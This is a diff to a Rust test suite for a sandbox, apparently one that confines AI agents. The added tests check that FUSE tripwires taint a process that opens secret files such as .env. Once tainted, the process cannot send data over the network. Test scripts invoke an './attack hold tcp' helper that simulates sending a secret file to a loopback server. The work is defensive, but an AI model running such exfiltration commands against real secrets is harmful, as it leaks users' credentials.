@@ -1519,6 +1519,18 @@ fn hold_taints(
     target: &str,
     ready: impl FnOnce() + Send + 'static,
 ) {
+    hold_taints_with(f, home, ip, target, &[], ready);
+}
+
+/// [`hold_taints`] with more environment for `clawless`; returns the run.
+fn hold_taints_with(
+    f: &Fixture,
+    home: &std::path::Path,
+    ip: &str,
+    target: &str,
+    env: &[(&str, &str)],
+    ready: impl FnOnce() + Send + 'static,
+) -> std::process::Output {
     let server = Tcp::new(ip, 443);
     let script = format!(
         "touch started; i=0; while [ ! -e go ] && [ $i -lt 1200 ]; do sleep 0.05; i=$((i+1)); done; \
@@ -1526,6 +1538,9 @@ fn hold_taints(
     );
     let mut c = f.command(&[], &["/bin/sh", "-c", &script]);
     c.env("HOME", home);
+    for (k, v) in env {
+        c.env(k, v);
+    }
     let (started, go) = (f.ws.join("started"), f.ws.join("go"));
     let helper = std::thread::spawn(move || {
         for _ in 0..1200 {
@@ -1558,6 +1573,7 @@ fn hold_taints(
         show(&o)
     );
     assert_eq!(server.received(), "before\n");
+    o
 }
 
 /// A hard link to a secret made by a process *outside* the sandbox during the
@@ -3161,4 +3177,58 @@ fn isolated_files_fuse_tools_work_over_tripwires() {
         show(&o)
     );
     assert_eq!(code(&o), 0, "{}", show(&o));
+}
+
+/// A name of a secret pattern that the agent creates gets its FUSE file before
+/// the monitor answers the creation: opening it then taints. (A rename or link
+/// into a secret's name is decided as reading that name: it taints by itself.)
+#[test]
+fn isolated_files_fuse_a_secret_the_agent_creates_is_a_tripwire() {
+    let Some(env) = fuse_tripwires() else { return };
+    for (i, script) in [
+        "echo fuse-new-ran; echo A=1 > .env; ./attack hold tcp {ip} 443 .env",
+        "echo fuse-new-ran; touch .env.local; ./attack hold tcp {ip} 443 .env.local",
+    ]
+    .iter()
+    .enumerate()
+    {
+        let f = Fixture::new(&format!("fuse-new-{i}")).with_attack();
+        let ip = format!("127.77.17.{}", 10 + i);
+        let server = Tcp::new(&ip, 443);
+        let script = script.replace("{ip}", &ip);
+        let o = fuse_run(&f, &[], &["/bin/sh", "-c", &script], &env);
+        let out = stdout(&o);
+        assert!(out.contains("fuse-new-ran"), "{}", show(&o));
+        assert!(
+            out.contains("write before: ok=7"),
+            "the channel works\n{}",
+            show(&o)
+        );
+        assert!(out.contains("open secret: ok="), "{}", show(&o));
+        assert!(
+            out.contains("write after: errno=32"),
+            "opening did not taint\n{}",
+            show(&o)
+        );
+        assert_eq!(server.received(), "before\n");
+    }
+}
+
+/// A secret a process outside creates during the session gets its FUSE file
+/// (the watcher records it, and the record mounts it): reading it taints.
+#[test]
+fn isolated_files_fuse_a_secret_created_outside_during_the_session_is_a_tripwire() {
+    let Some(env) = fuse_tripwires() else { return };
+    let f = Fixture::new("fuse-outside").with_attack();
+    let (home, secret) = (f.home.clone(), f.ws.join(".env"));
+    let o = hold_taints_with(&f, &home, "127.77.17.20", ".env", &env, move || {
+        std::fs::write(&secret, "OUTSIDE-SECRET-5e1\n").unwrap();
+        // What is tested is that the file is covered, not the watcher's window.
+        std::thread::sleep(Duration::from_millis(500));
+    });
+    assert!(
+        stderr(&o).contains("the kernel decides opens") && stderr(&o).contains("FUSE tripwire"),
+        "{}",
+        show(&o)
+    );
 }
